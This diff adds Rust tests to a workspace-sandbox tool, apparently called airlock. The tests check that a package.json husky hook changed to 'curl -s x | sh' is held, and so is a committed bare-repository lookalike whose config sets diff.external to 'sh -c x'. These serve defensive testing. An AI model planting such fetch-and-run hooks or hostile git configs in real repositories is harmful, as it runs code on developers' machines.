@@ -39,6 +39,7 @@ fn spec(ws: &Path) -> WorkspaceSpec {
         owned: vec![ws.join("airlock.toml")],
         keep: None,
         list: None,
+        home: None,
     }
 }
 
@@ -539,4 +540,89 @@ fn a_deltified_tree_in_a_pack_is_read() {
             .any(|t| t.contains("puts `app2/.envrc` into its tree")),
         "{text:?}"
     );
+}
+
+/// A `package.json` whose dependencies a run changed, staged and committed,
+/// applies; one whose husky hooks it changed is held, in the work tree as
+/// in the index and the commit that carry it.
+#[test]
+fn package_json_hook_keys_are_compared_with_the_hosts() {
+    let host = "{\"name\":\"x\",\"dependencies\":{},\"husky\":{\"hooks\":{\"pre-commit\":\"lint-staged\"}}}\n";
+    let repo = |d: &Dirs| {
+        git(&d.ws, &["init", "-q", "-b", "main"]);
+        fs::write(d.ws.join("package.json"), host).unwrap();
+        git(&d.ws, &["add", "-A"]);
+        git(&d.ws, &["commit", "-q", "-m", "one"]);
+    };
+    let d = dirs();
+    repo(&d);
+    let run = copy_of(&d.ws, d._tmp.path());
+    fs::write(
+        run.join("package.json"),
+        host.replace("{}", "{\"left-pad\":\"1\"}"),
+    )
+    .unwrap();
+    git(&run, &["add", "package.json"]);
+    upper_of(&d.ws, &run, &d.upper);
+    let f = finish(&d.upper, &spec(&d.ws), &limits(), true);
+    let text: Vec<_> = f.violations.iter().map(|v| v.detail.as_str()).collect();
+    assert!(f.applied, "{text:?}");
+
+    let d = dirs();
+    repo(&d);
+    let run = copy_of(&d.ws, d._tmp.path());
+    fs::write(
+        run.join("package.json"),
+        host.replace("lint-staged", "curl -s x | sh"),
+    )
+    .unwrap();
+    git(&run, &["commit", "-q", "-am", "two"]);
+    upper_of(&d.ws, &run, &d.upper);
+    let f = finish(&d.upper, &spec(&d.ws), &limits(), true);
+    let text: Vec<_> = f.violations.iter().map(|v| v.detail.as_str()).collect();
+    assert!(!f.applied, "{text:?}");
+    assert!(
+        text.iter()
+            .any(|t| t.contains("package.json") && t.contains("`husky`")),
+        "{text:?}"
+    );
+}
+
+/// A bare-repository lookalike delivered in a commit on a branch (the work
+/// tree back on main, so that only git's objects, a ref and logs come back)
+/// is held: the user's merge of the branch would write it, and git run in
+/// `fix/` would obey its `config`.
+#[test]
+fn a_commit_bringing_a_bare_repository_lookalike_is_held() {
+    let d = dirs();
+    git(&d.ws, &["init", "-q", "-b", "main"]);
+    git(&d.ws, &["add", "-A"]);
+    git(&d.ws, &["commit", "-q", "-m", "one"]);
+    let run = copy_of(&d.ws, d._tmp.path());
+    let head = git(&run, &["rev-parse", "HEAD"]);
+    git(&run, &["checkout", "-q", "-b", "feature"]);
+    fs::create_dir_all(run.join("fix/objects/info")).unwrap();
+    fs::create_dir_all(run.join("fix/refs/heads")).unwrap();
+    fs::write(
+        run.join("fix/objects/info/alternates"),
+        "../../.git/objects\n",
+    )
+    .unwrap();
+    fs::write(run.join("fix/refs/heads/main"), format!("{head}\n")).unwrap();
+    fs::write(run.join("fix/HEAD"), "ref: refs/heads/main\n").unwrap();
+    fs::write(
+        run.join("fix/config"),
+        "[core]\n\tbare = true\n[diff]\n\texternal = \"sh -c x\"\n",
+    )
+    .unwrap();
+    git(&run, &["add", "fix"]);
+    git(&run, &["commit", "-q", "-m", "add test fixture"]);
+    git(&run, &["checkout", "-q", "main"]);
+    assert!(!run.join("fix").exists());
+    upper_of(&d.ws, &run, &d.upper);
+    let f = finish(&d.upper, &spec(&d.ws), &limits(), true);
+    let text: Vec<_> = f.violations.iter().map(|v| v.detail.as_str()).collect();
+    assert!(!f.applied, "{text:?}");
+    assert!(!d.ws.join(".git/refs/heads/feature").exists());
+    assert!(text.iter().any(|t| t.contains("puts `fix/")), "{text:?}");
 }
